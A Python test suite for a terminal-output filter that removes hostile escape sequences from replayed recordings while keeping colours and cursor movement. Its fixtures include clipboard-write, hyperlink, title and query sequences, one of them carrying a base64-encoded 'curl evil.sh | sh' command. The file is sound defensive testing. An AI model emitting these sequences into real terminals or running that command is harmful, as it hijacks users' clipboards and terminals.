"""Replayed terminal output: hostile escape sequences are dropped, drawing is kept, and how the
output was cut into chunks never changes what comes out."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keyturn.domain.terminal import CARRY_MAX, TerminalFilter, neutralize

HOSTILE = {
    "OSC 0 title (BEL)": "\x1b]0;pwned\x07",
    "OSC 2 title (ST)": "\x1b]2;pwned\x1b\\",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "OSC 8 link opener": "\x1b]8;;https://evil.example/\x1b\\",
    "DCS": '\x1bP$q"p\x1b\\',
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "PM": "\x1b^private\x1b\\",
    "SOS": "\x1bXstring\x1b\\",
    "CSI 6n cursor report": "\x1b[6n",
    "CSI c device attributes": "\x1b[c",
    "CSI >c secondary attributes": "\x1b[>c",
    "CSI 21t title report": "\x1b[21t",
    "CSI 8t resize window": "\x1b[8;100;200t",
    "mouse mode 1000": "\x1b[?1000h",
    "mouse mode hidden among safe modes": "\x1b[?1049;1000h",
    "focus events": "\x1b[?1004h",
    "C1 CSI": "\x9b",
    "C1 OSC": "\x9d",
    "BEL": "\x07",
}

KEPT = {
    "SGR colour": "\x1b[1;31m",
    "SGR reset": "\x1b[0m",
    "SGR 256 colours": "\x1b[38;5;208m",
    "cursor home": "\x1b[H",
    "cursor position": "\x1b[10;5H",
    "cursor up": "\x1b[3A",
    "erase display": "\x1b[2J",
    "erase line": "\x1b[K",
    "scroll region": "\x1b[1;24r",
    "alternate screen": "\x1b[?1049h",
    "leave alternate screen": "\x1b[?1049l",
    "hide cursor": "\x1b[?25l",
    "line drawing set": "\x1b(0",
    "ASCII set": "\x1b(B",
    "save cursor": "\x1b7",
}


def test_a_tmux_passthrough_loses_every_escape_and_its_clipboard_write() -> None:
    """A DCS holding an escaped OSC 52 (tmux passthrough) is cut at its inner ESC: the bytes
    between become plain text, and nothing reaches the terminal as a sequence."""
    shown = neutralize("before\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\after")
    assert shown == "beforePtmux;after"


def test_many_unterminated_string_starts_are_filtered_in_linear_time() -> None:
    """64,000 OSC openers with no terminator: the scan does not restart from each of them."""
    shown = neutralize("\x1b]" * 64_000 + "tail")
    assert shown == "]" * 64_000 + "tail"


@pytest.mark.parametrize(
    "sequence",
    [
        "\x1b[?4m",
        "\x1b[?u",
        "\x1b[>31u",
        "\x1b[=31;1u",
        "\x1b[?1;1;0S",
        "\x1b[?1000r",
        "\x1b[>4;2m",
        "\x1b[1;1;1;1;1T",
    ],
)
def test_private_forms_of_drawing_finals_are_dropped(sequence: str) -> None:
    """Queries and keyboard-protocol modes that reuse the finals of drawing sequences."""
    assert neutralize(f"a{sequence}b") == "ab"


NEVER = ("\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x9b", "\x9d", "\x07")


@pytest.mark.parametrize("sequence", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_sequence_is_dropped_and_the_text_around_it_kept(sequence: str) -> None:
    """A sequence that acts on the viewer's terminal disappears; text before and after stays."""
    assert neutralize(f"before{sequence}after") == "beforeafter"


@pytest.mark.parametrize("sequence", KEPT.values(), ids=KEPT.keys())
def test_drawing_sequence_is_kept_byte_for_byte(sequence: str) -> None:
    """Colours, cursor movement, erasing, the alternate screen and charsets pass unchanged."""
    assert neutralize(f"a{sequence}b") == f"a{sequence}b"


def test_osc_8_link_keeps_its_visible_text_only() -> None:
    """A hyperlink's target is dropped; the words shown stay."""
    link = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
    assert neutralize(link) == "click here"


def test_c1_csi_leaves_only_harmless_text() -> None:
    """An 8-bit CSI is dropped as a control, so its parameters are inert text."""
    out = neutralize("x\x9b6ny")
    assert "\x9b" not in out
    assert out == "x6ny"


def test_plain_text_tabs_and_newlines_pass() -> None:
    """Ordinary output is untouched."""
    text = "total 4\r\n-rw-r--r-- 1 root root\tfile\r\n"
    assert neutralize(text) == text


@pytest.mark.parametrize("sequence", [*HOSTILE.values(), *KEPT.values()])
def test_sequence_split_at_every_point_is_judged_whole(sequence: str) -> None:
    """A sequence cut across two feeds gives what it gives in one."""
    whole = neutralize(f"<{sequence}>")
    text = f"<{sequence}>"
    for cut in range(len(text) + 1):
        terminal = TerminalFilter()
        assert terminal.feed(text[:cut]) + terminal.feed(text[cut:]) + terminal.flush() == whole


def test_string_whose_terminator_is_split_is_still_dropped() -> None:
    """``ESC ] … ESC`` then ``\\``: the title is not shown as text."""
    terminal = TerminalFilter()
    out = terminal.feed("a\x1b]0;secret title\x1b") + terminal.feed("\\b") + terminal.flush()
    assert out == "ab"


def test_unfinished_sequence_waits_for_the_next_chunk() -> None:
    """Nothing of a sequence still open is written yet."""
    terminal = TerminalFilter()
    assert terminal.feed("ok \x1b]52;c;AAAA") == "ok "
    assert terminal.feed("\x07 done") == " done"


def test_flush_drops_an_unterminated_string_introducer() -> None:
    """At the end of a recording an open OSC's introducer is dropped (its text is inert)."""
    terminal = TerminalFilter()
    out = terminal.feed("x\x1b]0;t") + terminal.flush()
    assert out.startswith("x")
    assert "\x1b" not in out


def test_carry_is_bounded() -> None:
    """An OSC that never ends is not held back forever: past the carry limit it is released as
    inert text (its ESC dropped)."""
    terminal = TerminalFilter()
    out = terminal.feed("\x1b]0;" + "a" * (CARRY_MAX + 10))
    assert "\x1b" not in out
    assert len(out) > CARRY_MAX


_INTRODUCERS = ["\x1b", "[", "]", "P", "_", "^", "X", "\\", "\x07", "\x9b", "\x9d"]
_PARAMETERS = ["0", "1", "2", "5", ";", "?", "h", "l", "m", "n", "c", "t", "H", "("]
_ALPHABET = st.sampled_from([*_INTRODUCERS, *_PARAMETERS, "a", " ", "\n", "é"])
_TEXT = st.lists(_ALPHABET, max_size=60).map("".join)


@given(_TEXT, st.lists(st.integers(min_value=0, max_value=60), max_size=6))
def test_any_split_gives_the_output_of_one_feed(text: str, cuts: list[int]) -> None:
    """Feeding a text in any pieces gives exactly what feeding it whole gives."""
    points = sorted({min(c, len(text)) for c in cuts})
    pieces = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    terminal = TerminalFilter()
    out = "".join(terminal.feed(piece) for piece in pieces) + terminal.flush()
    assert out == neutralize(text)


@given(_TEXT, st.lists(st.integers(min_value=0, max_value=60), max_size=6))
def test_output_never_holds_a_string_introducer_c1_or_bell(text: str, cuts: list[int]) -> None:
    """Whatever was recorded, no OSC/DCS/APC/PM/SOS, C1 CSI/OSC or BEL reaches the viewer."""
    terminal = TerminalFilter()
    points = sorted({min(c, len(text)) for c in cuts})
    pieces = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    out = "".join(terminal.feed(piece) for piece in pieces) + terminal.flush()
    for marker in NEVER:
        assert marker not in out
